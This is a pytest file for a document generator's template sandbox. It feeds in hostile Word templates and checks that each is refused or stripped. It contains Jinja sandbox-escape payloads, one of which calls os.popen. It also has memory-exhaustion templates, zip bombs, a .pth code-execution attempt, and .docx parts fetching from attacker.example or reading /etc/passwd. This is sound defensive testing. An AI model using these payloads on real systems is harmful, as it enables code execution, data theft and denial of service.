"""Templates from an attacker: no file written or read outside the inputs and output, no code
run, each refused or neutralised quickly with a clear message (issue 12)."""

from __future__ import annotations

import io
import resource
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import docx
import pytest
from click.testing import CliRunner

import docgen
from docgen.cli import cli
from docgen.exceptions import TemplateError
from docgen.render import template_context
from docgen.sandbox import allowed_attribute, check_data

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "inputs" / "quarterly-report-2019-11.xlsx"
MINIMAL = ROOT / "examples" / "minimal" / "minimal.xlsx"


def template_with(folder: Path, *texts: str, name: str = "hostile.docx") -> Path:
    """A template whose paragraphs are `texts`, then the narrative."""
    document = docx.Document()
    for text in texts:
        document.add_paragraph(text)
    document.add_paragraph("{{p body }}")
    path = folder / name
    document.save(path)
    return path


def build(template: Path, outdir: Path, workbook: Path = MINIMAL) -> docgen.BuildResult:
    return docgen.build(workbook, template=template, outdir=outdir)


# -- the context is data only ------------------------------------------------------------------


def test_the_template_context_holds_data_only():
    report, _ = docgen.api.read_report(EXAMPLE)
    context = template_context(report)
    check_data(context)  # raises TypeError on anything with behaviour
    assert context["appendix"] and context["implications"]


def test_check_data_refuses_objects_with_methods():
    with pytest.raises(TypeError, match=r"context\['doc'\] is a Document"):
        check_data({"doc": docx.Document()})
    with pytest.raises(TypeError, match="not plain data"):
        check_data({"items": [object()]})


def test_body_is_an_inert_placeholder(tmp_path):
    template = template_with(tmp_path, "[{{ body|length }}]")
    result = build(template, tmp_path / "out")
    first = docx.Document(result.docx).paragraphs[0].text
    assert first.startswith("[") and int(first.strip("[]")) < 100  # a short text, no document


# -- the attacks from the issue ----------------------------------------------------------------

ATTACKS = [
    "{{ body.document.save('%(target)s') }}",
    "{{ body.document.part.element.getroottree().write('%(target)s') }}",
    "{{ body.document.part.package.open('%(workbook)s').iter_parts()|list }}",
    "{{ body.document.add_picture('%(image)s') }}",
    "{{ title.__class__.__mro__[1].__subclasses__() }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ title.format(title) }}",
    "{{ implications.append(1) }}",
    "{{ implications[0].copy() }}",
    "{{ meeting_date.join(['a']) }}",
    "{{ cycler.__init__ }}",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_through_the_context_are_template_errors(tmp_path, attack):
    target = tmp_path / "written.txt"
    text = attack % {"target": target, "workbook": EXAMPLE, "image": tmp_path / "x.png"}
    template = template_with(tmp_path, text)
    started = time.monotonic()
    with pytest.raises(TemplateError) as raised:
        build(template, tmp_path / "out")
    assert time.monotonic() - started < 5
    assert not target.exists()
    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").iterdir())
    assert "hostile.docx, body, paragraph 1" in str(raised.value)


@pytest.mark.parametrize("attack", ATTACKS[:4])
def test_check_t_reports_the_refused_constructs(tmp_path, attack):
    template = template_with(tmp_path, attack % {"target": tmp_path / "w", "workbook": "x",
                                                 "image": "y"})
    errors = [p for p in docgen.api.check_template(template) if p.severity == "error"]
    assert errors, "check -t called a hostile template ready to use"
    assert any("may not call" in p.message or "sandbox refuses" in p.message for p in errors)


@pytest.mark.parametrize("attack", ATTACKS[:2])
def test_the_cli_exits_2_and_writes_nothing(tmp_path, attack):
    target = tmp_path / "written.txt"
    template = template_with(tmp_path, attack % {"target": target, "workbook": "", "image": ""})
    result = CliRunner().invoke(cli, ["build", str(MINIMAL), "-t", str(template),
                                      "-o", str(tmp_path / "out")])
    assert result.exit_code == 2, result.output
    assert not target.exists()
    checked = CliRunner().invoke(cli, ["check", "-t", str(template)])
    assert checked.exit_code == 2, checked.output


def test_the_shipped_template_is_never_changed_by_a_build(tmp_path):
    shipped = docgen.api.default_template()
    before = shipped.read_bytes()
    with pytest.raises(TemplateError):
        build(template_with(tmp_path, f"{{{{ body.document.save('{shipped}') }}}}"),
              tmp_path / "out")
    docgen.build(MINIMAL, outdir=tmp_path / "out")
    assert shipped.read_bytes() == before


# -- what the allow-list still allows ----------------------------------------------------------


def test_ordinary_template_code_still_works(tmp_path):
    template = template_with(
        tmp_path,
        "{{ title|upper }}|{{ title.upper() }}|{{ implications|length }}",
        "{% for item in implications %}{{ loop.index }}.{{ item.label }};{% endfor %}",
        "{% for k, v in implications[0].items() %}{{ k }}={{ v }};{% endfor %}",
        "{% set ns = namespace(n=0) %}{% for i in range(3) %}{% set ns.n = ns.n + i %}"
        "{% endfor %}{{ ns.n }}",
        "{% macro bold(x) %}<{{ x }}>{% endmacro %}{{ bold(title) }}",
        "{{ implications|map(attribute='label')|join(', ') }}",
        "{{ dict(a=1).get('a') }}|{{ '%s-%s'|format(1, 2) }}|{{ 2 ** 10 }}|{{ 1.25|round(1) }}",
    )
    result = build(template, tmp_path / "out")
    texts = [p.text for p in docx.Document(result.docx).paragraphs[:7]]
    title = docgen.api.read_report(MINIMAL)[0].settings.title
    assert texts[0] == f"{title.upper()}|{title.upper()}|{texts[0].rsplit('|')[-1]}"
    assert texts[1].startswith("1.")
    assert texts[2].startswith("label=")
    assert texts[3] == "3"
    assert texts[4] == f"<{title}>"
    assert texts[6] == "1|1-2|1024|1.2"


@pytest.mark.parametrize("obj, attr, allowed", [
    ({}, "items", True), ({}, "copy", False), ("x", "upper", True), ("x", "format", False),
    ([], "append", False), ((), "index", False), (1, "real", False), ("x", "__class__", False),
])
def test_the_attribute_allow_list(obj, attr, allowed):
    assert allowed_attribute(obj, attr) is allowed


# -- the budget --------------------------------------------------------------------------------

BUDGET_BREAKERS = [
    # string doubling with ~ and with |join
    "{% set ns = namespace(s='ab') %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}"
    "{% endfor %}{{ ns.s|length }}",
    "{% set ns = namespace(s=['ab']) %}{% for i in range(40) %}"
    "{% set ns.s = [ns.s|join, ns.s|join] %}{% endfor %}{{ ns.s|length }}",
    # big-integer squaring
    "{% set ns = namespace(x=3) %}{% for i in range(40) %}{% set ns.x = ns.x * ns.x %}"
    "{% endfor %}{{ ns.x }}",
    "{{ (2 ** 100) ** 100 }}",
    # widths taken from arguments
    "{{ '{0:>{1}}'.format('x', '1500000000') }}",
    "{{ '%*s' % (1500000000, 'x') }}",
    "{{ '%0999999999d' % 1 }}",
    "{{ 'a'|center(10**9) }}",
    # loops and output
    "{% for i in range(1000) %}{% for j in range(1000) %}{% for k in range(1000) %}x"
    "{% endfor %}{% endfor %}{% endfor %}",
    "{% set s %}{% for i in range(900000) %}xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
    "xxxxxxxxxxxxx{% endfor %}{% endset %}{{ s|length }}",
    "{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}",
    "{{ 'A' * 10**8 }}",
]


@pytest.mark.parametrize("text", BUDGET_BREAKERS)
def test_budget_breakers_stop_quickly_and_small(tmp_path, text):
    template = template_with(tmp_path, text)
    started = time.monotonic()
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(TemplateError, match="unsafe"):
        build(template, tmp_path / "out")
    assert time.monotonic() - started < 5
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert grown_mb < 600


def test_a_huge_rounding_precision_is_held_within_15_digits(tmp_path):
    template = template_with(tmp_path, "{{ 5|round(-100000000) }}|{{ 1.5|round(10**9) }}")
    result = build(template, tmp_path / "out")
    assert docx.Document(result.docx).paragraphs[0].text == "0|1.5"


# -- the template file itself ------------------------------------------------------------------


def _docx_with_document_xml(path: Path, document_xml: bytes) -> Path:
    """A copy of a real template with its document.xml replaced."""
    base = docx.Document()
    buffer = io.BytesIO()
    base.save(buffer)
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(path, "w",
                                                            zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            data = document_xml if entry.filename == "word/document.xml" else source.read(entry)
            target.writestr(entry.filename, data)
    return path


def _paragraph_bomb(path: Path, paragraphs: int) -> Path:
    head = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/'
            b'main"><w:body>')
    return _docx_with_document_xml(path, head + b"<w:p/>" * paragraphs + b"</w:body></w:document>")


@pytest.mark.parametrize("paragraphs, message", [
    (17_000_000, "unpacks to"),  # ~100 MB of empty paragraphs in a small file
    (30_000, "paragraphs"),
])
def test_a_template_that_unpacks_huge_is_refused_before_parsing(tmp_path, paragraphs, message):
    bomb = _paragraph_bomb(tmp_path / "bomb.docx", paragraphs)
    assert bomb.stat().st_size < 1_000_000
    for action in (lambda: build(bomb, tmp_path / "out"),
                   lambda: docgen.api.check_template(bomb)):
        started = time.monotonic()
        with pytest.raises(TemplateError, match=message):
            action()
        assert time.monotonic() - started < 5
    result = CliRunner().invoke(cli, ["pdf", str(bomb), "-o", str(tmp_path / "bomb.pdf")])
    assert result.exit_code == 2 and message in result.output
    assert not (tmp_path / "bomb.pdf").exists()


def _write_parts(path: Path, source: Path, changes: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(path, "w",
                                                              zipfile.ZIP_DEFLATED) as target:
        for entry in original.infolist():
            if entry.filename not in changes:
                target.writestr(entry.filename, original.read(entry))
        for name, data in changes.items():
            target.writestr(name, data)
    return path


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def hostile_content_template(tmp_path: Path) -> Path:
    """A template carrying everything a committee report never needs."""
    plain = template_with(tmp_path, "{{ title }}", name="plain.docx")
    with zipfile.ZipFile(plain) as archive:
        document = archive.read("word/document.xml").decode()
        rels = archive.read("word/_rels/document.xml.rels").decode()
        settings = archive.read("word/settings.xml").decode()
        types = archive.read("[Content_Types].xml").decode()
    extra_body = (
        f'<w:altChunk {R} r:id="rIdChunk"/>'
        f'<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "http://attacker.example/x.png" \'>'
        '<w:r><w:t>picture text</w:t></w:r></w:fldSimple></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText> INCLUDETEXT "C:\\\\secret.txt" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>kept result</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        f'<w:p><w:hyperlink r:id="rIdFile"><w:r><w:t>local file</w:t></w:r></w:hyperlink>'
        f'<w:hyperlink r:id="rIdWeb"><w:r><w:t>web page</w:t></w:r></w:hyperlink></w:p>'
        f'<w:p><w:r><w:object><w:control r:id="rIdOle"/></w:object></w:r></w:p>'
    )
    document = document.replace("<w:sectPr", extra_body + "<w:sectPr", 1)
    if "xmlns:r=" not in document:
        document = document.replace("<w:document ", f"<w:document {R} ", 1)
    new_rels = (
        f'<Relationship Id="rIdChunk" Type="{RELS}/aFChunk" Target="chunk.html"/>'
        f'<Relationship Id="rIdFile" Type="{RELS}/hyperlink" Target="file:///etc/passwd" '
        'TargetMode="External"/>'
        f'<Relationship Id="rIdWeb" Type="{RELS}/hyperlink" Target="https://www.gov.uk/" '
        'TargetMode="External"/>'
        f'<Relationship Id="rIdImg" Type="{RELS}/image" Target="http://attacker.example/p.png" '
        'TargetMode="External"/>'
        f'<Relationship Id="rIdOle" Type="{RELS}/oleObject" Target="embeddings/ole.bin"/>'
        f'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/'
        'relationships/vbaProject" Target="vbaProject.bin"/>'
    )
    rels = rels.replace("</Relationships>", new_rels + "</Relationships>")
    settings = settings.replace("<w:zoom", '<w:attachedTemplate r:id="rIdTpl"/><w:zoom', 1)
    if "xmlns:r=" not in settings:
        settings = settings.replace("<w:settings ", f"<w:settings {R} ", 1)
    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdTpl" Type="{RELS}/attachedTemplate" '
        'Target="http://attacker.example/evil.dotm" TargetMode="External"/></Relationships>')
    types = types.replace("</Types>", '<Default Extension="bin" ContentType="application/'
                          'vnd.ms-office.vbaProject"/><Default Extension="html" ContentType='
                          '"text/html"/></Types>')
    return _write_parts(tmp_path / "hostile-content.docx", plain, {
        "word/document.xml": document.encode(),
        "word/_rels/document.xml.rels": rels.encode(),
        "word/settings.xml": settings.encode(),
        "word/_rels/settings.xml.rels": settings_rels.encode(),
        "[Content_Types].xml": types.encode(),
        "word/chunk.html": b"<html><body>pasted</body></html>",
        "word/embeddings/ole.bin": b"OLE",
        "word/vbaProject.bin": b"macros",
    })


def test_hostile_content_is_stripped_with_a_warning_naming_each(tmp_path):
    template = hostile_content_template(tmp_path)
    result = build(template, tmp_path / "out")
    warnings = " ".join(str(w) for w in result.warnings)
    for what in ("macros", "attached template", "altChunk", "file:///etc/passwd",
                 "attacker.example/p.png", "embedded OLE object", "INCLUDEPICTURE",
                 "INCLUDETEXT"):
        assert what in warnings, what
    with zipfile.ZipFile(result.docx) as archive:
        names = set(archive.namelist())
        everything = b" ".join(archive.read(n) for n in names if n.endswith((".xml", ".rels")))
    assert not {"word/vbaProject.bin", "word/chunk.html", "word/embeddings/ole.bin"} & names
    for gone in (b"attachedTemplate", b"altChunk", b"file:///", b"attacker.example",
                 b"INCLUDEPICTURE", b"INCLUDETEXT", b"w:object"):
        assert gone not in everything, gone
    assert b"https://www.gov.uk/" in everything  # web links are what reports carry
    text = "\n".join(p.text for p in docx.Document(result.docx).paragraphs)
    assert "picture text" in text and "kept result" in text and "web page" in text
    lint = docgen.api.check_template(template)
    assert any("INCLUDEPICTURE" in p.message for p in lint)


def test_a_clean_template_is_passed_through_byte_for_byte():
    from docgen.template_file import read_template

    shipped = docgen.api.default_template()
    cleaned = read_template(shipped)
    assert cleaned.data == shipped.read_bytes() and cleaned.problems == []


def test_a_page_outside_words_limits_is_bounded(tmp_path):
    document = docx.Document()
    section = document.sections[0]
    section.page_width = docx.shared.Inches(0.1)
    section.page_height = docx.shared.Inches(150)
    document.add_paragraph("A narrow page " * 20)
    document.add_paragraph("{{p body }}")
    template = tmp_path / "narrow.docx"
    document.save(template)
    started = time.monotonic()
    try:
        result = docgen.build(MINIMAL, template=template, outdir=tmp_path / "out", pdf=True)
    except docgen.ExportError as exc:
        assert "pages" in str(exc)
    else:
        assert any("Word's limits" in str(w) for w in result.warnings)
    assert time.monotonic() - started < 30


def test_libreoffice_gets_a_cleaned_copy(tmp_path):
    from docgen.pdf import libreoffice

    if libreoffice.find_soffice() is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    template = hostile_content_template(tmp_path)
    calls = []
    real_run = subprocess.run

    def spy(command, *args, **kwargs):
        calls.append(command)
        return real_run(command, *args, **kwargs)

    libreoffice.subprocess.run = spy
    try:
        warnings = libreoffice.convert_with_libreoffice(str(template), str(tmp_path / "x.pdf"))
    finally:
        libreoffice.subprocess.run = real_run
    converted = Path(calls[-1][-1])
    assert converted != template and any("INCLUDEPICTURE" in w.message for w in warnings)
    assert (tmp_path / "x.pdf").read_bytes().startswith(b"%PDF")


def test_no_code_runs_in_a_child_process(tmp_path):
    """The .pth route: a template that could write into site-packages ran code in the next
    child. Nothing a template does can write a file, so a fresh interpreter is clean."""
    site = Path(subprocess.run([sys.executable, "-c", "import site; print(site.getsitepackages()"
                                "[0])"], capture_output=True, text=True).stdout.strip())
    pth = site / "docgen-attack.pth"
    template = template_with(tmp_path, "{{ body.document.part.element.getroottree().write('"
                             + str(pth) + "') }}")
    with pytest.raises(TemplateError):
        docgen.build(MINIMAL, template=template, outdir=tmp_path / "out", isolate=True)
    assert not pth.exists()
